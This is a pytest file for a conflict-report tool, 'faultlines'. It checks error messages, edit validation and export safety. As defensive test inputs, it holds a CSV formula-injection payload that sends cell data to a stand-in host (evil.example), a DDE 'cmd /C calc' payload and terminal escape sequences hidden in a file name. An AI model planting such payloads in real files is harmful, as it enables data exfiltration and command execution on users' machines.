"""Issue 18, the command line and the web: clear one-line errors, safe output, checked edits (no NLP needed)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import xml.dom.minidom
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from faultlines.cli import cli
from faultlines.model import Count
from faultlines.resolve import resolve_new
from faultlines.store import Store, queries
from tests.factories import report

ROOT = Path(__file__).resolve().parents[1]


def _db(tmp_path: Path, outlet: str = "Test Wire", title: str | None = None) -> str:
    path = tmp_path / "t.db"
    with Store(path) as s:
        for ex in (report("a.txt", "Militiamen attacked a mosque near Baquba, killing over 40.", killed=Count(41, None),
                          outlet=outlet),
                   report("b.txt", "Up to 75 people died in the mosque raid.", killed=Count(64, 75))):
            if title is not None:
                ex.document.title = title  # type: ignore[misc]
            s.add_document(ex.document)
            resolve_new(s, s.save_extraction(ex))
    return str(path)


def _one_line_error(r) -> None:
    assert r.exit_code == 1, r.output
    assert "Traceback" not in r.output and r.exception is None or isinstance(r.exception, SystemExit)
    lines = [ln for ln in r.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error"), r.output


@pytest.mark.parametrize("kind", ["folder", "not-a-database", "unwritable-parent"])
def test_a_database_that_cannot_be_opened_is_one_clear_line(kind, tmp_path):
    (tmp_path / "a.txt").write_text("Gunmen attacked Ramadi.", encoding="utf-8")
    if kind == "folder":
        db = tmp_path / "dir.db"
        db.mkdir()
    elif kind == "not-a-database":
        db = tmp_path / "x.db"
        db.write_bytes(b"this is not SQLite " * 100)
    else:
        ro = tmp_path / "ro"
        ro.mkdir()
        (ro / "file").write_text("x")
        db = ro / "file" / "sub" / "x.db"  # a path under a file: its folder cannot be made
    r = CliRunner().invoke(cli, ["ingest", "--db", str(db), "--quiet", str(tmp_path / "a.txt")])
    _one_line_error(r)


def test_a_fifo_as_manifest_is_refused_not_waited_on(tmp_path):
    fifo = tmp_path / "meta.jsonl"
    os.mkfifo(fifo)
    (tmp_path / "in").mkdir()
    try:
        r = subprocess.run([sys.executable, "-m", "faultlines.cli", "ingest", "--db", str(tmp_path / "x.db"),
                            "--quiet", "--meta", str(fifo), str(tmp_path / "in")], capture_output=True, text=True,
                           timeout=60, cwd=ROOT)
    except subprocess.TimeoutExpired:
        pytest.fail("the ingest waited on the FIFO")
    assert r.returncode == 1 and "not a regular file" in r.stderr and "Traceback" not in r.stderr


@pytest.mark.parametrize("content", ["- just a string\n- another\n", "actors: [1, 2]\n", "{unclosed: [\n",
                                     "actors:\n  - {id: x, name: X, aliases: {a: 1}}\n"])
def test_a_malformed_actors_file_is_one_clear_line(content, tmp_path):
    bad = tmp_path / "actors.yaml"
    bad.write_text(content, encoding="utf-8")
    (tmp_path / "a.txt").write_text("Gunmen attacked a checkpoint in Ramadi, Iraq.", encoding="utf-8")
    r = CliRunner().invoke(cli, ["ingest", "--db", str(tmp_path / "x.db"), "--quiet", "--workers", "1",
                                 "--actors", str(bad), str(tmp_path / "a.txt")])
    if content.startswith("actors:\n"):  # a mapping of aliases is read as a list of its keys: accepted
        assert r.exit_code in (0, 3), r.output
        return
    _one_line_error(r)
    assert "actor file" in r.output


def test_terminal_escape_codes_in_file_names_are_not_printed_raw(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # short relative names: the table shows them whole
    folder = Path("in")
    folder.mkdir()
    (folder / "evil\x1b]0;owned\x07\x1b[2J.txt").write_bytes(b"\x00\x01binary")
    db = "x.db"
    r = CliRunner().invoke(cli, ["ingest", "--db", db, "--quiet", str(folder)])
    assert r.exit_code == 3
    out = r.output  # stdout and stderr, as a terminal shows them
    assert "evil" in out and "\x1b" not in out and "\x07" not in out and "\\x1b" in out
    r = CliRunner().invoke(cli, ["failures", "--db", db])
    assert r.exit_code == 0 and "\x1b" not in r.output and "\\x1b" in r.output


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_network_exports_are_valid_xml_with_control_characters(fmt, tmp_path):
    db = _db(tmp_path, outlet="Evil\x01\x0b Wire\x1b[0m")
    out = tmp_path / f"n.{fmt}"
    r = CliRunner().invoke(cli, ["export", "--db", db, "--format", fmt, "--out", str(out)])
    assert r.exit_code == 0, r.output
    xml.dom.minidom.parse(str(out))  # raises on invalid XML
    assert "Evil Wire" in out.read_text(encoding="utf-8")


# ---------------------------------------------------------------------------------------------------- edits
@pytest.fixture()
def editable(tmp_path):
    from faultlines.serve.app import ServeSettings, create_app

    db = _db(tmp_path)
    app = create_app(db, allow_edits=True, token="t", settings=ServeSettings(rate_limit=0))
    client = TestClient(app, raise_server_exceptions=False)
    with Store(db) as s:
        [inc] = queries.list_incidents(s.conn, limit=5)
    return client, inc["id"]


@pytest.mark.parametrize(("field", "value"), [
    ("killed_low", "9223372036854775807"), ("killed_low", 9223372036854775807), ("killed_low", "-5"),
    ("killed_high", 1.5), ("killed_low", True), ("injured_low", "many"), ("date_start", "2014-02-31"),
    ("date_end", "0001-01-01"), ("date_start", "2014-2-3"), ("lat", "91"), ("lon", "nan"), ("lat", [1]),
    ("date_precision", "fortnight"), ("place_name", "x" * 501), ("admin1", "bad\x1b[0m"),
])
def test_edits_validate_their_values(editable, field, value):
    client, iid = editable
    r = client.post(f"/api/incidents/{iid}/edit", json={"field": field, "value": value},
                    headers={"X-Faultlines-Token": "t"})
    assert r.status_code == 400, r.text
    assert r.json()["error"]["message"]
    for page in ("/", "/api/stats", f"/incidents/{iid}"):
        assert client.get(page).status_code == 200
    assert CliRunner().invoke(cli, ["stats", "--db", client.app.state.db_path]).exit_code == 0


def test_a_good_edit_still_works(editable):
    client, iid = editable
    r = client.post(f"/api/incidents/{iid}/edit", json={"field": "killed_low", "value": "30"},
                    headers={"X-Faultlines-Token": "t"})
    assert r.status_code == 200, r.text
    r = client.post(f"/api/incidents/{r.json()['incident']}/edit", json={"field": "date_start", "value": "2014-08-21"},
                    headers={"X-Faultlines-Token": "t"})
    assert r.status_code == 200, r.text


def test_a_deeply_nested_body_is_a_400_not_a_500(editable):
    client, iid = editable
    r = client.post(f"/api/incidents/{iid}/edit", content=b"[" * 50_000,
                    headers={"X-Faultlines-Token": "t", "Content-Type": "application/json"})
    assert r.status_code == 400


def test_merge_reasons_are_capped_and_summarised():
    reasons = [{"a": f"e{i}", "b": f"f{i}", "score": i / 1000} for i in range(1000)]
    capped = queries.cap_reasons(reasons)
    assert len(capped) == queries.MAX_REASONS + 1
    assert min(r["score"] for r in capped[:-1]) == 0.9
    assert "900 further" in capped[-1]["more"]
    assert len(json.dumps(capped)) < len(json.dumps(reasons)) / 5


# ---------------------------------------------------------------------------------------------------- exports
HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def test_exports_neutralise_formulas_in_the_cli_csv(tmp_path):
    import csv

    db = _db(tmp_path, outlet="@SUM(1+1)*cmd|' /C calc'!A0")
    with Store(db) as s:  # a hostile title, and a quote (the ACLED notes) that starts with a formula
        s.conn.execute("UPDATE documents SET title = ?", (HOSTILE,))
        s.conn.execute("UPDATE events SET quote = ?", ("+1+1 said the source\r\t",))
    out = tmp_path / "i.csv"
    r = CliRunner().invoke(cli, ["export", "--db", db, "--format", "csv", "--out", str(out)])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(open(out, encoding="utf-8", newline="")))
    cells = [v for row in rows for v in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'+1+1") for c in cells)
    assert rows[0]["source_titles"] == "'" + HOSTILE
    r = CliRunner().invoke(cli, ["documents", "--db", db, "--format", "csv"])
    listed = list(csv.DictReader(r.output.splitlines()))
    assert listed and all(not row["outlet"].startswith("@") for row in listed)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_one_csv_writer_and_one_geojson_builder():
    import faultlines.export as export
    import faultlines.serve.formats as web

    assert web.to_csv is export.to_csv and web.incidents_geojson is export.incidents_geojson_of
    text = export.csv_text([{"title": HOSTILE, "n": -5, "x": "-1"}], ["title", "n", "x"])
    import csv

    [row] = list(csv.DictReader(text.splitlines()))
    assert row == {"title": "'" + HOSTILE, "n": "-5", "x": "-1"}


def test_the_cli_and_web_geojson_are_the_same(tmp_path):
    from faultlines.export import incidents_geojson
    from faultlines.serve.app import ServeSettings, create_app

    db = _db(tmp_path)
    with Store(db) as s:
        cli_fc = incidents_geojson(s.conn)
    web_fc = TestClient(create_app(db, settings=ServeSettings(rate_limit=0))).get("/api/incidents.geojson").json()
    assert cli_fc["features"] and cli_fc == web_fc

